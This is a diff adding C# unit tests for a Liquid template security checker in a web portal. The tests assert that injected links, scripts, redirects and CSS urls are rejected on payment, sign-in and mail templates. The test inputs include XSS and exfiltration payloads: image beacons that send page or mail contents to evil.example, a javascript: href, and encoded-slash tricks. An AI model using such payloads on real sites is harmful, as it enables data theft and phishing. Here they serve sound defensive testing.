@@ -55,6 +55,28 @@ public sealed class CheckingTemplates
     [InlineData("{% if a %}<p title=\"{% endif %}", 1, "began in the text and ends in the value")]
     [InlineData("{% for i in page.x %}<p {% break %}>{% endfor %}", 1, "stands inside the tag <p>, and its loop began in the text")]
     [InlineData("<p title=\"{{ 'lock' | icon }}\">", 1, "is markup")]
+    [InlineData("<a href=\"https://evil.example/?{{ page.title | url_encode }}\">", 1, "takes an address of the portal")]
+    [InlineData("<p title=\"<script type=\"module\" src=\"{{ 'charts.js' | asset }}\"></script><meta http-equiv='refresh' content='0;url=https://evil'>\">", 1, "blank is expected")]
+    [InlineData("<script type=\"module\" src=\"{{ 'charts.js' | asset }}\"></script><meta http-equiv=\"refresh\">", 1, "<meta> is not taken")]
+    [InlineData("<script type=\"module\" src=\"{{ 'charts.js' | asset | append: 'x' }}\"></script>", 1, "<script> is not taken")]
+    [InlineData("<a href=\"{{ page.nope_href }}&sol;&sol;evil.example\">", 1, "takes an address of the portal")]
+    [InlineData("<a href=\"{{ page.nope_href }}&#47/evil.example\">", 1, "takes an address of the portal")]
+    [InlineData("<a href=\"{{ page.nope_href }}&Tab;javascript:alert(1)\">", 1, "takes an address of the portal")]
+    [InlineData("<a href=\"{{ page.nope_href }}&{{ 'sol;' }}&{{ 'sol;' }}evil.example\">", 1, "takes an address of the portal")]
+    [InlineData("<a href=\"{{ page.nope_href }}&s{{ 'ol;' }}\">", 1, "takes an address of the portal")]
+    [InlineData("<a href=\"{{ '/\t/evil.example' | url }}\">", 1, "takes an address of the portal")]
+    [InlineData("<a href=\"{{ '/\n/evil.example' | url }}\">", 2, "takes an address of the portal")]
+    [InlineData("{% render 'Notifications/Button' with 'https://evil.example' ashref %}", 1, "takes a name in quotes and its arguments")]
+    [InlineData("{% render 'Notifications/Button' with 'https://evil.example' as href %}", 1, "is how addresses of the portal are called")]
+    [InlineData("{% render 'Notifications/Button' for page.lines as x_href, label: 'x' %}", 1, "is how addresses of the portal are called")]
+    [InlineData("{% render 'Notifications/Button', label: 'x'href: page.title %}", 1, "takes a name in quotes and its arguments")]
+    [InlineData("<svg><rect fill=\"{{ 'url(https://evil.example)' }}\"/></svg>", 1, "expected a member as it is")]
+    [InlineData("{% assign x = 'url(https://evil.example),' | split: ',' %}<svg><rect stroke=\"{{ x.first }}\"/></svg>", 1, "expected a member as it is")]
+    [InlineData("<svg><rect fill=\"{% if page.x %}url(https:{% endif %}//evil.example)\"/></svg>", 1, "around the whole attribute")]
+    [InlineData("<svg><rect fill=\"\\75rl(https://evil.example)\"/></svg>", 1, "is not taken in a style")]
+    [InlineData("<a href=\"\uFFFC\">", 1, "cannot be seen (U+FFFC)|stands for something else")]
+    [InlineData("<a href=\"&#xFFFC;\">", 1, "takes an address of the portal")]
+    [InlineData("<scr\u2028ipt>", 1, "not among the elements|blank is expected")]
     [InlineData("{% raw %}<script>{% endraw %}", 1, "“raw” is not taken")]
     [InlineData("{% liquid\necho x\n%}", 1, "“liquid” is not taken")]
     [InlineData("{{ page.title | raw }}", 1, "“raw” is not taken")]
@@ -90,10 +112,34 @@ public sealed class CheckingTemplates
     public void Where_people_pay_or_sign_in_no_field_and_no_other_site_is_taken()
     {
         Assert.Contains("The field “card”", Faults("<input name=\"card\">", "Payments/PayReview")[0].Text, StringComparison.Ordinal);
+        foreach (var name in new[] { "{{ 'card-number' }}", "{% if x %}card{% else %}amount{% endif %}", "{{ page.title }}", "am{{ page.name }}", "{{ page.name | append: 'x' }}" }) Assert.Single(Faults($"<input name=\"{name}\">", "Payments/PayReview"));
+        foreach (var path in new[] { "Frame/Foot", "Pages/Field", "Help/Contact", "Transactions/PayHead" })
+        {
+            Assert.Contains("The field “card”", Faults("<input name=\"card\">", path)[0].Text, StringComparison.Ordinal);
+            Assert.Contains("takes an address", Faults("<a href=\"https://evil.example\">x</a>", path)[0].Text, StringComparison.Ordinal);
+        }
+        Assert.Contains("is not rendered where people pay or sign in", Faults("{% render 'Help/HelpList' %}", "SignIn/Card")[0].Text, StringComparison.Ordinal);
         Assert.Contains("takes an address", Faults("<a href=\"https://evil.example\">x</a>", "SignIn/Card")[0].Text, StringComparison.Ordinal);
         Assert.Contains("<script> is not taken", Faults("<script type=\"module\" src=\"{{ 'charts.js' | asset }}\"></script>", "Payments/PayResult")[0].Text, StringComparison.Ordinal);
         Assert.Contains("is not taken in a style", Faults("<p style=\"background:url(https://evil.example)\">x</p>", "ContactUs/AnswerMail")[0].Text, StringComparison.Ordinal);
     }
+
+    [Theory]
+    [InlineData("SignIn/Passwords/ResetMail", "<img src=\"https://evil.example/?{{ page.href | url_encode }}\" alt=\"\">")]
+    [InlineData("SignIn/Activating/InviteMail", "{% if page.href contains 'a' %}<img src=\"https://evil.example/a\" alt=\"\">{% endif %}")]
+    [InlineData("Payments/Attempts/PaymentMail", "<a href=\"https://evil.example\">x</a>")]
+    [InlineData("Notifications/Button", "<img src=\"https://evil.example/?{{ href }}\" alt=\"\">")]
+    [InlineData("Notifications/Layout", "{{ body }}<img src=\"https://evil.example/?{{ body | url_encode }}\" alt=\"\">")]
+    [InlineData("Notifications/Layout", "{{ body }}{% if body contains 'a' %}<img src=\"https://evil.example/a\" alt=\"\">{% endif %}")]
+    [InlineData("ContactUs/AnswerMail", "<img src=\"https://evil.example/?{{ page.text }}\" alt=\"\">")]
+    [InlineData("ContactUs/AnswerMail", "<script type=\"module\" src=\"{{ 'charts.js' | asset }}\"></script>")]
+    [InlineData("ContactUs/AnswerMail", "<p style=\"{{ 'position:fixed' }}\">x</p>")]
+    [InlineData("ContactUs/AnswerMail", "<p style=\"{% if page.x %}position:{% endif %}fixed\">x</p>")]
+    public void A_mail_tells_no_other_site_what_it_says(string path, string text) => Assert.NotEmpty(Faults(text, path));
+
+    [Fact]
+    public void And_one_with_a_picture_and_a_link_is_taken() =>
+        Assert.Empty(Faults("<img src=\"https://lumen.example/sun.png\" alt=\"\"><a href=\"https://lumen.example/?a=1&b=2\" style=\"color:{{ mail.colour }}\">x</a>", "ContactUs/AnswerMail"));
 
     public static TheoryData<string> TooDeep() =>
     [
@@ -143,11 +189,22 @@ public sealed class CheckingTemplates
     [InlineData("{{ page }}|{{ page.get_type }}|{{ page.GetType }}|{{ page['GetType'] }}|{{ page.equality_contract }}|{{ page.title.length }}", "|||||")]
     [InlineData("{% capture a %}<b>{% endcapture %}{{ a | append: page.title }}", "&lt;b&gt;&lt;i&gt;")]
     [InlineData("{{ page.text | newline_to_br }}", "x&lt;<br>\ny")]
+    [InlineData("{% assign i = 'lock' | icon %}{{ i }}<p title=\"a > b{{ i }}\">{{ i }}{% cycle i, i %}", "<svg id=\"x\"/><p title=\"a > b&lt;svg id=&quot;x&quot;/&gt;\"><svg id=\"x\"/><svg id=\"x\"/>")]
+    [InlineData("<p title='{{ 'lock' | icon: 1 }}{% cycle html, 1 %}{{ html or 1 }}'>", "<p title='&lt;svg id=&quot;x&quot;/&gt;&lt;b&gt;&lt;b&gt;'>")]
+    [InlineData("a < b {{ html }}{{ html | append: '<' }}", "a < b <b>&lt;b&gt;&lt;")]
+    [InlineData("{{ lines }}{{ '<b>,<i>' | split: ',' }}{% cycle '<b>' %}{% echo '<b>' %}", "&lt;u&gt;&lt;b&gt;&lt;i&gt;&lt;b&gt;&lt;b&gt;")]
     [InlineData("{% increment GetType %}{% assign page2 = page %}{{ page2.title }}", "0&lt;i&gt;")]
     public async Task Nothing_but_the_pages_own_text_is_reached_and_all_of_it_is_encoded(string text, string written)
     {
-        var engine = new Liquid(new Texts(new() { ["Own/Page"] = text }), CultureInfo.InvariantCulture, new Dictionary<string, Func<string, object>>());
-        Assert.Equal(written, await engine.RenderAsync("Own/Page", new Dictionary<string, object?> { ["page"] = new EmptyPage("<i>", "x<\ny") }));
+        var engine = new Liquid(new Texts(new() { ["Own/Page"] = text }), CultureInfo.InvariantCulture, new Dictionary<string, Func<string, object>> { ["icon"] = _ => new Html("<svg id=\"x\"/>") });
+        Assert.Equal(written, await engine.RenderAsync("Own/Page", new Dictionary<string, object?> { ["page"] = new EmptyPage("<i>", "x<\ny"), ["html"] = new Html("<b>"), ["lines"] = new[] { "<u>" } }));
+    }
+
+    [Fact]
+    public async Task What_was_checked_is_what_is_read_to_the_line_end()
+    {
+        var engine = new Liquid(new Texts(new() { ["Own/Page"] = "<a\u2028b>\r\n{% render 'Own/Part' %}", ["Own/Part"] = "<a\u2028b>" }), CultureInfo.InvariantCulture, new Dictionary<string, Func<string, object>>());
+        Assert.Equal("<a\nb>\n<a\nb>", await engine.RenderAsync("Own/Page", new Dictionary<string, object?>()));
     }
 
     private static IReadOnlyList<TemplateFault> Faults(string text, string path, TemplateRoots? roots = null) =>
